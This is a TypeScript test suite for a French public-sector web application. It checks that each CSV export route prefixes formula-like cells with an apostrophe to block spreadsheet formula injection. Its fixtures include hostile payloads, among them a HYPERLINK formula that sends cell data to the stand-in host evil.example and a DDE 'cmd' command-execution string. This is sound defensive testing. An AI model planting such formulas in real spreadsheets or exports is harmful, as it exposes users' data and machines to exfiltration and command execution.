// Every CSV export of the product goes through the one writer (src/platform/export/csv.ts) and neutralises formulas
// (issue 8, finding 4): an organisation, a sheet title, a contact and a response whose texts start with `=`, `+`,
// `-` or `@` are written with a leading apostrophe in every CSV route (challenges and initiatives included). The table below lists every CSV route; a new
// route ending in `.csv` (or a new `.csv` open-data download) without an entry here fails the first test.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { filledContent, parseCsv } from '../../src/modules/library/index.ts';
import { CLI_ACTOR, type QuestionnairesApi } from '../../src/modules/questionnaires/index.ts';
import { describeEachApp, type TestApp } from '../helpers/app.ts';
import { PersonaClient, type Sent } from './route-access/client.ts';

const HOSTILE_ORGANISATION = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")';
const HOSTILE_TITLE = '=1+1';
const HOSTILE_CONTACT = "+cmd|' /C calc'!A0";
const HOSTILE_ANSWER = '@SUM(1+1)';
const SIREN = '213502388';

const day = 86_400_000;
const isoDay = (offset: number) => new Date(Date.now() + offset * day).toISOString().slice(0, 10);

interface World {
  coordinator: PersonaClient;
  campaignId: number;
  /** A second campaign of the same questionnaire, with a hostile title (the comparison of two campaigns). */
  secondId: number;
  /** The CSV downloads listed on the open-data page. */
  openDataCsv: string[];
}

/** The CSV routes, each with the address to download in the hostile world and what must appear neutralised in it. */
const CSV_ROUTES: Record<string, { urls: (w: World) => string[]; hostile: string[] }> = {
  'GET /donnees-ouvertes/:file': {
    urls: (w) => w.openDataCsv.flatMap((href) => [href, `${href}?separateur=virgule`]),
    hostile: [HOSTILE_ORGANISATION, HOSTILE_TITLE],
  },
  'GET /donnees-ouvertes/inventaire-algorithmes.csv': {
    urls: () => [
      '/donnees-ouvertes/inventaire-algorithmes.csv',
      `/donnees-ouvertes/inventaire-algorithmes.csv?siren=${SIREN}&separateur=virgule`,
    ],
    hostile: [HOSTILE_ORGANISATION, HOSTILE_TITLE],
  },
  'GET /coordination/campagnes/:id/export.csv': {
    urls: (w) => [`/coordination/campagnes/${w.campaignId}/export.csv`],
    hostile: [HOSTILE_ORGANISATION, HOSTILE_ANSWER],
  },
  'GET /coordination/campagnes/comparer.csv': {
    urls: (w) => [`/coordination/campagnes/comparer.csv?a=${w.campaignId}&b=${w.secondId}`],
    hostile: [HOSTILE_TITLE],
  },
  'GET /recensements/comparer.csv': {
    urls: (w) => [`/recensements/comparer.csv?a=${w.secondId}&b=${w.campaignId}&separateur=virgule`],
    hostile: [HOSTILE_TITLE],
  },
  'GET /coordination/campagnes/:id/suivi.csv': {
    urls: (w) => [`/coordination/campagnes/${w.campaignId}/suivi.csv`],
    hostile: [HOSTILE_ORGANISATION],
  },
  'GET /communs/communs.csv': {
    urls: () => ['/communs/communs.csv', '/communs/communs.csv?separateur=virgule'],
    hostile: [HOSTILE_ORGANISATION, HOSTILE_TITLE],
  },
  'GET /defis/defis.csv': {
    urls: () => ['/defis/defis.csv', '/defis/defis.csv?separateur=virgule'],
    hostile: [HOSTILE_TITLE],
  },
  'GET /initiatives/initiatives.csv': {
    urls: () => ['/initiatives/initiatives.csv', '/initiatives/initiatives.csv?separateur=virgule'],
    hostile: [HOSTILE_ORGANISATION, HOSTILE_TITLE],
  },
  'GET /collectivites/contacts.csv': {
    urls: () => ['/collectivites/contacts.csv', '/collectivites/contacts.csv?separateur=virgule'],
    hostile: [HOSTILE_ORGANISATION, HOSTILE_CONTACT],
  },
};

function check(sent: Sent, expected: number | number[], what: string): Sent {
  if (![expected].flat().includes(sent.status))
    throw new Error(`${what} → ${sent.status} ${sent.location} ${sent.body.slice(0, 300)}`);
  return sent;
}

async function hostileWorld(app: TestApp): Promise<World> {
  const orgId = await app.createOrganisation({
    name: HOSTILE_ORGANISATION,
    type: 'commune',
    siren: SIREN,
    regionCode: '53',
    departementCode: '35',
  });
  const editorUser = await app.createUser({
    email: 'responsable@hostile.fr',
    memberships: [{ organisationId: orgId, role: 'editor' }],
  });
  const coordinatorUser = await app.createUser({ email: 'coordination@reseau.fr', role: 'coordinator' });
  const editor = new PersonaClient(app.server, 'editor', editorUser.id);
  const coordinator = new PersonaClient(app.server, 'coordinator', coordinatorUser.id);
  const visitor = new PersonaClient(app.server, 'visitor', null);
  for (const c of [editor, coordinator, visitor]) await c.start();

  // A published sheet with a hostile title.
  const created = check(
    await editor.send({
      method: 'POST',
      url: '/api/v1/use-cases',
      json: { organisationId: orgId, content: { ...filledContent('hx'), title: HOSTILE_TITLE } },
    }),
    201,
    'création de la fiche',
  ).response.json() as { id: number; version: number };
  const submitted = check(
    await editor.send({
      method: 'POST',
      url: `/api/v1/use-cases/${created.id}/submit`,
      json: { version: created.version },
    }),
    200,
    'soumission',
  ).response.json() as { version: number };
  check(
    await coordinator.send({
      method: 'POST',
      url: `/bibliotheque/${created.id}/action`,
      form: { action: 'publish', version: String(submitted.version) },
    }),
    [302, 303],
    'publication',
  );

  // A commons entry with a hostile name, maintained by the hostile authority.
  check(
    await editor.send({
      method: 'POST',
      url: '/communs/nouveau',
      form: {
        nom: HOSTILE_TITLE,
        resume: 'Commun du test des exports.',
        type: 'code',
        statut: 'idea',
        mainteneurs: String(orgId),
      },
    }),
    [302, 303],
    'création du commun',
  );

  // A challenge with a hostile title, stated by the hostile authority.
  check(
    await editor.send({
      method: 'POST',
      url: '/defis/nouveau',
      form: {
        porte_par: String(orgId),
        titre: HOSTILE_TITLE,
        besoin: 'Besoin du test des exports.',
        resultat: 'Un résultat attendu.',
      },
    }),
    [302, 303],
    'création du défi',
  );

  // A published participation initiative with a hostile title.
  const initiative = check(
    await editor.send({
      method: 'POST',
      url: '/initiatives/nouvelle',
      form: {
        organisation: String(orgId),
        titre: HOSTILE_TITLE,
        en_bref: 'Des habitants ont donné leur avis.',
        resume: 'Une initiative du test des exports.',
        format: 'workshop',
        sujets: 'digital_inclusion',
        publics: 'grand_public',
        eloignes: 'Des ateliers sans inscription en ligne.',
        debut: '2025-03-01',
        resultats: 'Un guide publié.',
        _etape: 'submit',
      },
    }),
    [302, 303],
    'initiative',
  );
  const initiativeId = Number(/\/initiatives\/(\d+)/.exec(initiative.location ?? '')?.[1]);
  const review = check(await coordinator.send({ url: `/initiatives/${initiativeId}` }), 200, 'initiative en relecture');
  check(
    await coordinator.send({
      method: 'POST',
      url: `/initiatives/${initiativeId}/action`,
      form: { action: 'publish', version: /name="version" value="(\d+)"/.exec(review.body)![1]! },
    }),
    [302, 303],
    'publication de l’initiative',
  );

  // A contact with a hostile name.
  check(
    await coordinator.send({
      method: 'POST',
      url: `/collectivites/${orgId}/contacts`,
      form: { name: HOSTILE_CONTACT, function: '-Directrice', email: 'contact@hostile.fr', phone: '' },
    }),
    [302, 303],
    'ajout d’un contact',
  );

  // A campaign to that authority, launched, and a response whose first answer is hostile.
  const questionnaires = app.server.modules.api('questionnaires') as QuestionnairesApi;
  const [, participation] = await questionnaires.questionnaires.installCatalogue();
  const campaign = check(
    await coordinator.send({
      method: 'POST',
      url: '/coordination/campagnes',
      multipart: {
        fields: {
          questionnaireId: String(participation),
          title: 'Campagne des exports',
          description: 'Campagne du test des exports CSV.',
          opensAt: isoDay(-1),
          closesAt: isoDay(20),
          options: ['results'],
          reminderDays: '',
          responsesMode: 'one',
        },
        files: [{ field: 'sirenFile', filename: 'siren.csv', type: 'text/csv', content: `siren\n${SIREN}\n` }],
      },
    }),
    [302, 303],
    'création de la campagne',
  );
  const campaignId = Number(/\/coordination\/campagnes\/(\d+)/.exec(campaign.location)?.[1]);
  check(
    await coordinator.send({
      method: 'POST',
      url: `/coordination/campagnes/${campaignId}/lancer`,
      form: { confirm: 'oui' },
    }),
    [302, 303],
    'lancement',
  );
  const dashboard = check(await coordinator.send({ url: `/coordination/campagnes/${campaignId}` }), 200, 'suivi');
  const invitationId = Math.max(
    ...[...dashboard.body.matchAll(new RegExp(`/coordination/campagnes/${campaignId}/invitations/(\\d+)`, 'g'))].map(
      (m) => Number(m[1]),
    ),
  );
  const invitation = check(
    await coordinator.send({ url: `/coordination/campagnes/${campaignId}/invitations/${invitationId}` }),
    200,
    'invitation',
  );
  const link = new URL(/https?:\/\/[^\s<"]+\/recensements\/lien\/[A-Za-z0-9_-]+/.exec(invitation.body)![0]).pathname;
  check(
    await visitor.send({
      method: 'POST',
      url: `${link}/page/collectivite`,
      form: { _version: '0', _base: '{}', fonction: HOSTILE_ANSWER, action: 'save' },
    }),
    [302, 303],
    'réponse',
  );
  const openData = check(await visitor.send({ url: '/donnees-ouvertes' }), 200, 'données ouvertes');
  const openDataCsv = [
    ...new Set([...openData.body.matchAll(/href="(\/donnees-ouvertes\/[^"?]+\.csv)"/g)].map((m) => m[1]!)),
  ];
  assert.ok(openDataCsv.length >= 2, `téléchargements CSV : ${openDataCsv.join(', ')}`);
  // A second campaign of the same questionnaire, with public results and a hostile title (comparison exports).
  const second = await questionnaires.campaigns.create(CLI_ACTOR, {
    questionnaireId: participation!,
    title: HOSTILE_TITLE,
    description: '',
    opensAt: new Date(Date.now() - day).toISOString(),
    closesAt: new Date(Date.now() + 20 * day).toISOString(),
    targets: { types: [], regions: [], departements: [], organisationIds: [orgId], sirens: [] },
    sirenList: '',
    publicLink: false,
    resultsPublic: true,
    libraryAuto: false,
    reminderDays: [],
  } as Parameters<QuestionnairesApi['campaigns']['create']>[1]);
  return { coordinator, campaignId, secondId: second.id, openDataCsv };
}

describeEachApp('every CSV export neutralises formulas', (app) => {
  let world: World;
  before(async () => {
    world = await hostileWorld(app());
  });

  test('every CSV route of the application is listed here (a new one must be added and checked)', () => {
    const csvRoutes = app()
      .server.routes.filter(
        (r) => r.method === 'GET' && (r.url.endsWith('.csv') || r.url === '/donnees-ouvertes/:file'),
      )
      .map((r) => `GET ${r.url}`);
    assert.deepEqual([...new Set(csvRoutes)].sort(), Object.keys(CSV_ROUTES).sort());
  });

  for (const [route, spec] of Object.entries(CSV_ROUTES)) {
    test(`${route}: hostile texts are written with a leading apostrophe, no cell starts a formula`, async () => {
      for (const url of spec.urls(world)) {
        const res = check(await world.coordinator.send({ url }), 200, url);
        assert.match(String(res.response.headers['content-type']), /text\/csv/, url);
        const cells = parseCsv(res.body).records.flatMap((r) => r.fields);
        for (const hostile of spec.hostile) {
          assert.ok(cells.includes(`'${hostile}`), `${url} : « ${hostile} » neutralisé`);
        }
        const dangerous = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d+([.,]\d+)?$/.test(c));
        assert.deepEqual(dangerous, [], `${url} : aucune cellule ne commence une formule`);
      }
    });
  }
});
